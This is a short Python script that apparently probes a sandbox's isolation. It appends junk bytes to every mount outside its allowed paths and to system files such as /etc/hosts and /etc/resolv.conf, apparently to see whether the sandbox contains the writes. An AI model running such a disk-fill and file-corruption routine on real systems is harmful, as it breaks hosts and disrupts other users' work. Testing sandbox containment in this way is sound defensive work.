# Writes to whatever is mounted besides what it is given to write to: a file of the node's own disk has no limit at all.
import stat

GIVEN = ("/data/outputs", "/data/logs", "/tmp", "/dev/shm")


def mounted():
    for line in open("/proc/self/mountinfo"):
        path = line.split(" ")[4]
        if not any(path == given or path.startswith(given + "/") for given in GIVEN):
            yield path


def fill(path):
    if stat.S_ISCHR(os.stat(path).st_mode):
        return None
    target = os.path.join(path, "attack-fill") if os.path.isdir(path) else path
    with open(target, "ab", buffering=0) as file:
        return f"{file.write(b'x' * settings['bytes'])} bytes into {target}"


# A sandbox with a kernel of its own keeps some of them to itself.
for path in sorted({*mounted(), "/dev/termination-log", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/dev"}):
    attempt(f"fill {path}", lambda p=path: fill(p))
finish()
